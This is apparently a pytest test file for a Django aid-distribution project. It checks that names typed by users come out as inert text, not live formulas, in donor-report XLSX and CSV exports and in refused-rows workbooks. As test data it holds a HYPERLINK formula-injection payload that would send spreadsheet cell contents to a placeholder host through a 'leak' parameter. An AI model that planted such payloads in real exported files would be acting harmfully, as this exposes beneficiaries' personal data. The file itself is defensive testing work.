"""Issue 12: text typed by anyone is never a live formula in a file we write (config/spreadsheets.py).

Each writer is tested: the donor report's XLSX and HXL CSV, the refused-rows workbook, the 3W CSV.
"""

import csv
import datetime
import io

import pytest
from django.core.files.storage import default_storage
from django.utils import timezone
from openpyxl import load_workbook

from accounts.models import Role
from beneficiaries.imports import jobs
from beneficiaries.imports.errors_file import write_errors_workbook
from distributions.services import record_receipt
from projects.services import request_report
from tests import factories
from tests.api.conftest import client_for
from tests.conftest import PROJECT_ROOT
from tests.imports.conftest import upload

pytestmark = pytest.mark.django_db

CASE = PROJECT_ROOT.parent / "shared" / "cases" / "outputs" / "formula_cells_refused.csv"
HYPERLINK = '=HYPERLINK("http://example.invalid/?leak="&C2&D2,"Open registration guide")'


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path


def _no_formula_in(workbook) -> list:
    """Every cell of every sheet: (sheet, coordinate, value) of those a spreadsheet would evaluate."""
    return [
        (sheet.title, cell.coordinate, cell.value)
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f"
    ]


@pytest.fixture
def formula_named(mopti):
    """A site and a distribution whose names a partner typed as formulas, with a receipt in July 2024."""
    site, distribution = mopti["site"], mopti["distribution"]
    site.name = "=1+1"
    site.save()
    distribution.name = HYPERLINK
    distribution.save()
    mopti["shelter"].name = "@SUM(1,1)"
    mopti["shelter"].save()
    donor = mopti["project"].donor  # written above the summary's table (issue 15: it was a live formula there)
    donor.name = "-2+3"
    donor.save()
    household = factories.household(site, registered_by=mopti["officer"])
    record_receipt(
        recorded_by=mopti["officer"],
        distribution=distribution,
        household=household,
        kit_type=mopti["shelter"],
        verification_method="registration_code",
        received_at=timezone.make_aware(datetime.datetime(2024, 7, 5, 10)),
    )
    return mopti


def test_the_refused_rows_workbook_of_the_shared_case_is_all_text(mopti):
    if not CASE.exists():
        pytest.skip("../shared/cases/outputs is not beside the project")
    mopti["site"].code = "ML-MOP-WAL"  # the case's site, so that each row is refused for what it holds
    mopti["site"].save()
    manager = factories.user(Role.PROGRAMME_MANAGER, projects=[mopti["project"]], username="mgr")
    job = jobs.create_job(uploaded=upload(CASE.read_bytes(), CASE.name), created_by=manager)
    jobs.set_mapping(job, job.mapping, by=manager)
    job = jobs.validate_job(job)
    assert job.invalid_rows == 3  # all three rows are refused
    refused = {row.row_number: {error["column"] for error in row.errors} for row in job.rows.all()}
    # Row 2 for its sex "X"; rows 3 and 4 for a phone ending in "x", which is not read as an extension and dropped.
    assert refused == {2: {"head_sex"}, 3: {"phone"}, 4: {"phone"}}
    path = write_errors_workbook(job)
    workbook = load_workbook(path)
    path.unlink()
    sheet = workbook.active
    assert _no_formula_in(workbook) == []
    typed = [row[1] for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert typed == [HYPERLINK, "=1+1", "@SUM(1,1)"]  # shown as typed
    assert all(cell.data_type in ("s", "n") for row in sheet.iter_rows() for cell in row if cell.value is not None)


def test_the_donor_report_xlsx_and_hxl_csv_keep_typed_names_as_text(
    formula_named, eager_celery, django_capture_on_commit_callbacks
):
    manager = factories.user(Role.PROGRAMME_MANAGER, projects=[formula_named["project"]], username="mgr")
    with django_capture_on_commit_callbacks(execute=True):
        report = request_report(
            project=formula_named["project"],
            requested_by=manager,
            period_start=datetime.date(2024, 7, 1),
            period_end=datetime.date(2024, 7, 31),
        )
    report.refresh_from_db()
    assert report.status == "done", report.error
    with default_storage.open(report.outputs["xlsx"], "rb") as handle:
        workbook = load_workbook(io.BytesIO(handle.read()))
    assert _no_formula_in(workbook) == []
    values = {cell.value for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row}
    assert {HYPERLINK, "=1+1", "@SUM(1,1)"} & values  # the names are there, as text
    assert "-2+3" in values  # the donor's name too
    with default_storage.open(report.outputs["csv"], "rb") as handle:
        rows = list(csv.reader(io.StringIO(handle.read().decode("utf-8-sig"))))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")], cells
    assert "'=1+1" in cells  # the site's name, shown as typed by a spreadsheet


def test_the_3w_csv_keeps_typed_names_as_text(formula_named):
    answer = client_for(formula_named["officer"]).get("/api/v1/exports/3w.csv")
    assert answer.status_code == 200
    rows = list(csv.reader(io.StringIO(b"".join(answer.streaming_content).decode("utf-8-sig"))))
    cells = [cell for row in rows[2:] for cell in row]
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")], cells
    assert "'=1+1" in cells and "'@SUM(1,1)" in cells


def test_the_guard_itself():
    from config.spreadsheets import csv_row, is_formula_like

    assert csv_row(["=1+1", "+223 70", "-2", "@x", " =x", "\t=x", "Walirdé", 5, -3, "#adm1"]) == [
        "'=1+1",
        "'+223 70",
        "'-2",
        "'@x",
        "' =x",
        "'\t=x",
        "Walirdé",
        5,
        -3,
        "#adm1",
    ]
    assert not is_formula_like(None)
